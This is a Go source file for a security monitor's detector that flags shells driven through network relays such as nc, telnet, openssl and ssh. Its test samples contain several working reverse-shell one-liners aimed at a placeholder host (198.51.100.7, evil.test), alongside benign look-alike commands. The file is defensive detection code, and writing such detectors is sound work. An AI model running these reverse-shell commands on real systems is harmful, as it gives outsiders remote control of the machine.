package detect

import (
	"slices"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/wiring"
	"github.com/code-on-incus/coi/pkg/coi"
)

var shellNetRelay = Detector{
	ID: "shell.net-relay", Level: coi.Critical, Wants: []event.Type{event.Exec, event.FDs},
	Title: "shell driven through another program",
	Why:   "what a shell reads comes from the network and what it prints goes back there",
	Detect: func(ev event.Event, v track.View) []Finding {
		if ev.Type == event.Exec {
			return predictedRelay(v)
		}
		return wired(v, func(w wiring.Verdict) (coi.Level, bool) {
			if w.Shape != wiring.Via || w.Accepted {
				return "", false
			}
			if w.Tool {
				return coi.Critical, true
			}
			return coi.High, true
		}, "shell driven from %s:%d")
	},
	Fire: append(lines(coi.Critical,
		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4242 >/tmp/f",
		"telnet 198.51.100.7 8080 | /bin/sh | telnet 198.51.100.7 8081",
		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.test:443 > /tmp/s",
		"mknod /tmp/b p; telnet 198.51.100.7 4444 0</tmp/b | /bin/bash 1>/tmp/b",
		"TF=$(mktemp -u); mkfifo $TF && telnet 198.51.100.7 99 0<$TF | sh 1>$TF",
		"ssh a@198.51.100.7 'tail -f in' | bash | ssh a@198.51.100.7 'cat > out'",
		"mkfifo x; nc 198.51.100.7 9 <x | bash >x 2>&1",
		"cp /bin/nc /tmp/n; mkfifo /tmp/f; /bin/bash < /tmp/f | /tmp/n 198.51.100.7 1 > /tmp/f",
	), Sample{Level: coi.High, Line: "tail -f /mnt/s/in | bash 2>&1 | nc 198.51.100.7 99"}, Sample{Level: coi.High, Events: graphSample(
		wiring.Node{PID: 2, Class: "interpreter", Argv: []string{"node", "-e", "x"}, FDs: []wiring.FD{
			{N: 10, Kind: wiring.Pipe, ID: "1", Write: true}, {N: 11, Kind: wiring.Pipe, ID: "2", Read: true}, outSock(12, "s"),
		}},
		wiring.Node{PID: 3, PPID: 2, Class: "shell", FDs: []wiring.FD{{N: 0, Kind: wiring.Pipe, ID: "1", Read: true}, {N: 1, Kind: wiring.Pipe, ID: "2", Write: true}}},
	)}),
	Quiet: append(lines("",
		"curl -fsSL https://example.com/install.sh | bash > log.txt",
		"mkfifo p; tar c src > p & gzip < p > out.gz",
		"echo stats | nc localhost 11211 | grep version",
		"printf 'quit\\n' | telnet localhost 25",
		"openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -dates",
	), Sample{Events: graphSample(
		wiring.Node{PID: 2, Role: wiring.Tool, Class: "interpreter", FDs: []wiring.FD{{N: 10, Kind: wiring.Pipe, ID: "1", Write: true}, {N: 11, Kind: wiring.Pipe, ID: "2", Read: true}, outSock(12, "s")}},
		wiring.Node{PID: 3, PPID: 2, Class: "shell", FDs: []wiring.FD{{N: 0, Kind: wiring.Pipe, ID: "1", Read: true}, {N: 1, Kind: wiring.Pipe, ID: "2", Write: true}}},
	)}),
}

// predictedRelay finds the same wiring in the text, before it exists.
func predictedRelay(v track.View) []Finding {
	c := v.Command()
	if c == nil {
		return nil
	}
	for _, s := range c.Simples {
		takes := s.Class() == program.Shell || s.Class() == program.Interpreter && len(s.Code) == 0
		if !takes || runsText(s) {
			continue
		}
		in := reach(c, s, true)
		out := reach(c, s, false)
		if out != nil && in == nil && s.Class() == program.Shell && out.Class() == program.Relay && outHost(out) != "" && !loopbackOnly(out) && slices.ContainsFunc(s.Stdin, follows) {
			return one(*say(s, coi.High, "shell that follows a file answers to the network").to(outHost(out)))
		}
		if in == nil || out == nil {
			continue
		}
		f := say(s, coi.Critical, "shell driven through "+in.Name).to(outHost(in))
		if loopbackOnly(in) && loopbackOnly(out) {
			f.Level = coi.High
		}
		return one(*f)
	}
	return nil
}

// follows reports tail -f, by which a file is a channel.
func follows(s *command.Simple) bool { return s.Name == "tail" && s.Parsed().Has("f", "F", "follow") }

// reach follows pipes and files from a command to a network tool: upstream, or
// downstream.
func reach(c *command.Command, s *command.Simple, up bool) *command.Simple {
	seen := map[*command.Simple]bool{s: true}
	level := []*command.Simple{s}
	for range 4 {
		var next []*command.Simple
		for _, a := range level {
			for _, b := range c.Simples {
				if seen[b] || !flows(b, a) && up || !flows(a, b) && !up {
					continue
				}
				if b.Class() == program.Relay || b.Name == "ssh" && len(b.Parsed().Rest) > 1 {
					return b
				}
				seen[b] = true
				next = append(next, b)
			}
		}
		level = next
	}
	return nil
}

// flows reports whether the output of a reaches b: by pipe, or by a file that a
// writes and b reads.
func flows(a, b *command.Simple) bool {
	if slices.Contains(b.Stdin, a) || a.Parent != nil && a.FDs[1] == "pipe" && slices.Contains(b.Stdin, a.Parent) {
		return true
	}
	outs := map[string]bool{}
	for _, fd := range []int{1, 2} {
		if p := a.FDs[fd]; p != "" && p != "pipe" && p != "/dev/null" {
			outs[p] = true
		}
	}
	if a.Name == "tee" {
		for _, p := range a.Argv[1:] {
			outs[a.Abs(p)] = true
		}
	}
	if len(outs) == 0 {
		return false
	}
	if outs[b.FDs[0]] {
		return true
	}
	if b.Class() == program.Reader {
		for _, p := range b.Argv[1:] {
			if outs[b.Abs(p)] {
				return true
			}
		}
	}
	return false
}
